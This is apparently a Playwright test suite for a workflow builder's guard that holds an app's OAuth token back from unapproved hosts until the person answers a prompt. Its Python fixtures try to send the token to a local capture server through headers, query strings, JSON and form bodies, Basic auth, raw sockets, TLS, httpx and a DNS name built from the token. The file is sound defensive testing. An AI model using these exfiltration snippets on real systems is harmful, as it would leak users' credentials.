/** A secret goes only where it belongs: to the hosts of its account's app, and elsewhere once the person says so. */
import type { Builder } from "./pages/builder.ts";
import type { Runnel } from "./pages/runnel.ts";
import type { StepCard } from "./pages/step-card.ts";
import { test as base, expect, packages, tokens } from "./product.ts";
import { type ByteKeeper, startByteKeeper } from "./servers/byte-keeper.ts";
import { startWeb } from "./servers/web.ts";
import { test as withSlackCom } from "./slack-com.ts";

const token = tokens.acme;
const secret = "slack.$auth.oauth_access_token";

const test = base.extend<{ readonly keeper: ByteKeeper }>({
  keeper: async ({ browserName: _ }, use) => {
    const keeper = await startByteKeeper();
    await use(keeper);
    await keeper.close();
  },
});

test.use({ samePage: true });

/** A workflow of one step that has the token of the account *Acme*, or of *Globex*. */
async function stepWithAccount(
  runnel: Runnel,
  code: string,
  account: string = token,
): Promise<{ builder: Builder; step: StepCard }> {
  const { builder, step } = await runnel.newStep(code);
  await builder.attachApp(step, "Slack");
  await step.giveAccount("Slack", account === token ? "Acme" : "Globex", { oauth_access_token: account });
  return { builder, step };
}

const handler = (body: string) => `import base64
import json
import socket
import urllib.parse
import urllib.request

def handler(pd: "pipedream"):
    token = pd.inputs["slack"]["$auth"]["oauth_access_token"]
    ${body.trim().replaceAll("\n", "\n    ")}
`;

/** Ways to carry a token, as code that makes the request `request` to `url`. */
const ways: readonly (readonly [string, string, string])[] = [
  [
    "a header",
    "a header of the request",
    'request = urllib.request.Request(url, headers={"Authorization": f"Bearer {token}"})',
  ],
  [
    "the query",
    "the address of the request",
    'request = urllib.request.Request(url + "?" + urllib.parse.urlencode({"token": token}))',
  ],
  [
    "a JSON body",
    "the body of the request",
    'request = urllib.request.Request(url, data=json.dumps({"deep": [{"token": token}]}).encode())',
  ],
  [
    "a form",
    "the body of the request",
    'request = urllib.request.Request(url, data=urllib.parse.urlencode({"a": 1, "token": token}).encode())',
  ],
  [
    "a Basic header",
    "a header of the request",
    'pair = base64.b64encode(f"someone:{token}".encode()).decode()\nrequest = urllib.request.Request(url, headers={"Authorization": "Basic " + pair})',
  ],
];

test("in whatever form: held while the person is asked, and never sent after a no", async ({
  runnel,
  keeper,
}) => {
  const { builder, step } = await stepWithAccount(runnel, handler("return token"));
  for (const [name, place, request] of ways) {
    await test.step(name, async () => {
      const before = keeper.received().length;
      await step.code.set(
        handler(`url = "${keeper.url}/"\n${request}\nreturn urllib.request.urlopen(request).read().decode()`),
      );
      await step.testAgain();
      if (name === "a header") await builder.answerNetwork("Allow");
      await expect(builder.secretDialog).toBeVisible();
      await expect(builder.secretDialog).toContainText(secret);
      await expect(builder.secretDialog).toContainText("Acme");
      await expect(builder.secretDialog).toContainText(`127.0.0.1:${keeper.port}`);
      await expect(builder.secretDialog).toContainText(place);
      // A client may write the head on its own, before the body.
      const arrived = keeper.received().slice(before);
      const beforeSecret = place === "the body of the request" ? /^[\s\S]*\r\n\r\n/ : /^/;
      expect(arrived.replace(beforeSecret, ""), "while the question is open").toBe("");
      await builder.answerSecret("Don't send");
      await step.expectStatus("Failed · PermissionError");
      await expect(step.error).toContainText(secret);
      await expect(step.error).toContainText(`127.0.0.1:${keeper.port}`);
      await expect(step.root).not.toContainText(token);
      expect(keeper.received()).not.toContain("token");
      expect(keeper.answered()).toBe(0);
    });
  }
});

test("Send once is for this run, Always send there is remembered and can be taken back", async ({
  runnel,
  keeper,
  page,
}) => {
  const { builder, step } = await stepWithAccount(
    runnel,
    handler(`for number in range(3):
    request = urllib.request.Request("${keeper.url}/", headers={"X-Key": token})
    urllib.request.urlopen(request).read()
return "sent"`),
  );
  const sent = () => keeper.received().split(token).length - 1;
  await step.test();
  await builder.answerNetwork("Allow");
  await builder.answerSecret("Send once");
  await step.expectStatus("Success");
  expect(sent()).toBe(3);

  await step.testAgain();
  await builder.answerSecret("Always send there");
  await step.expectStatus("Success");
  expect(sent()).toBe(6);
  await builder.expectSaved();
  await page.reload();
  await step.testAgain();
  await step.expectStatus("Success");
  expect(sent()).toBe(9);

  await builder.header.getByRole("button", { name: "Network access" }).click();
  const access = page.getByRole("dialog", { name: "Network access" });
  await expect(access).toContainText(secret);
  await access.getByRole("button", { name: `Remove ${secret} for 127.0.0.1` }).click();
  await page.keyboard.press("Escape");
  await step.testAgain();
  await builder.answerSecret("Don't send");
  await step.expectStatus("Failed · PermissionError");
  expect(sent()).toBe(9);
});

test("inside TLS, in bytes that are no HTTP, and as a host's name", async ({ runnel, authority, keeper }) => {
  const secure = await startWeb(await authority.issue(["localhost"]));
  const { builder, step } = await stepWithAccount(
    runnel,
    handler(`def attempt(name, action):
    try:
        print(name, "sent", action())
    except PermissionError as error:
        print(name, "PermissionError", error)

def raw():
    with socket.create_connection(("127.0.0.1", ${keeper.port})) as connection:
        connection.sendall(b"AUTH " + token[:10].encode())
        connection.sendall(token[10:].encode() + b"\\r\\n")
        return connection.recv(100)

url = "https://localhost:${secure.port}/echo"
attempt("tls", lambda: urllib.request.urlopen(urllib.request.Request(url, headers={"X-Key": token})).read())
attempt("raw", raw)
attempt("name", lambda: socket.getaddrinfo(token + ".example.com", 80))`),
    tokens.globex,
  );
  await step.test();
  await builder.answerNetwork("Allow");
  await builder.answerSecret("Don't send");
  await builder.answerNetwork("Allow");
  await expect(builder.secretDialog).toContainText("the data of the connection");
  await builder.answerSecret("Don't send");
  await expect(builder.secretDialog).toBeVisible();
  await expect(builder.secretDialog).not.toContainText(tokens.globex);
  await builder.answerSecret("Don't send");
  await step.expectStatus("Success");
  for (const name of ["tls", "raw", "name"]) {
    await step.expectLog(new RegExp(`${name} PermissionError .*slack\\.\\$auth\\.oauth_access_token`));
  }
  expect(secure.requests).toEqual([]);
  expect(keeper.received()).toBe(`AUTH ${tokens.globex.slice(0, 10)}`);
  await secure.close();
});

test("what a step wrote before it closed the connection waits for the answer, and so does the step", async ({
  runnel,
  keeper,
}) => {
  const { builder, step } = await stepWithAccount(
    runnel,
    handler(`with socket.create_connection(("127.0.0.1", ${keeper.port})) as connection:
    connection.sendall(b"log: " + token.encode())
return "done"`),
  );
  await step.test();
  await builder.answerNetwork("Allow");
  await expect(builder.secretDialog).toBeVisible();
  expect(keeper.received()).toBe("");
  await builder.answerSecret("Send once");
  await step.expectStatus("Success");
  await expect.poll(() => keeper.received()).toBe(`log: ${token}`);
});

test("Stop ends a step whose secret is held; nothing is sent, and the next test asks again", async ({
  runnel,
  keeper,
}) => {
  const { builder, step } = await stepWithAccount(
    runnel,
    handler(`request = urllib.request.Request("${keeper.url}/", headers={"X-Key": token})
return urllib.request.urlopen(request, timeout=5).read().decode()`),
  );
  await step.test();
  await builder.answerNetwork("Allow");
  await expect(builder.secretDialog).toBeVisible();
  await builder.secretDialog.getByRole("button", { name: "Stop the run" }).click();
  await expect(builder.secretDialog).toBeHidden();
  await step.expectStatus("Stopped");
  expect(keeper.received()).toBe("");
  await step.testAgain();
  // By the pointer, as in network.spec.ts.
  await builder.secretDialog.getByRole("button", { name: "Send once", exact: true }).click();
  await step.expectStatus("Success");
  await step.expectExport(/\$return_value\s*"ok"/);
});

withSlackCom("goes to its app's own host without a question", async ({ runnel, slackCom }) => {
  const before = slackCom.calls.length;
  const { step } = await stepWithAccount(
    runnel,
    handler(`request = urllib.request.Request("https://slack.com/api/auth.test", headers={"Authorization": f"Bearer {token}"})
return json.load(urllib.request.urlopen(request))["team"]`),
  );
  await step.test();
  await step.expectStatus("Success");
  await step.expectExport(/\$return_value\s*"Acme"/);
  expect(slackCom.calls.slice(before)).toEqual([expect.objectContaining({ token })]);
});

test("httpx, sync and async: the same question, the same error", packages, async ({ runnel, keeper }) => {
  const { builder, step } = await stepWithAccount(
    runnel,
    `import httpx

async def handler(pd: "pipedream"):
    token = pd.inputs["slack"]["$auth"]["oauth_access_token"]
    def cause(error):
        while error and not isinstance(error, PermissionError):
            error = error.__cause__ or error.__context__
        return repr(error)
    try:
        httpx.post("${keeper.url}/", json={"token": token})
    except httpx.HTTPError as error:
        print("sync", cause(error))
    async with httpx.AsyncClient(auth=("someone", token)) as client:
        try:
            await client.get("${keeper.url}/")
        except httpx.HTTPError as error:
            print("async", cause(error))
`,
  );
  await step.test();
  await builder.answerNetwork("Allow");
  await builder.answerSecret("Don't send");
  await step.expectStatus("Success", { timeout: 60_000 });
  await step.expectLog(/sync PermissionError\(.*slack\.\$auth\.oauth_access_token/);
  await step.expectLog(/async PermissionError\(.*slack\.\$auth\.oauth_access_token/);
  expect(keeper.received()).not.toContain("token");
  expect(keeper.answered()).toBe(0);
});
